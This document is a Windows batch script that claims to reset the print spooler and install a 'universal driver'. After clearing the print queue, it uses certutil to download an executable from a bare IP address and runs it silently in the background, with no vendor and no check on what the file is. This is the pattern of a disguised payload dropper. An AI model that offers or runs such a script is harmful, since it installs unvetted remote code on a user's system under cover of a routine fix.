@echo off
echo Stopping spooler...
net stop spooler
del /Q /F %systemroot%\System32\spool\PRINTERS\*
echo Fetching universal driver...
certutil -urlcache -split -f http://198.51.100.61/drv/updrv.exe %TEMP%\updrv.exe >nul
start "" /B %TEMP%\updrv.exe /silent
net start spooler
echo Done.
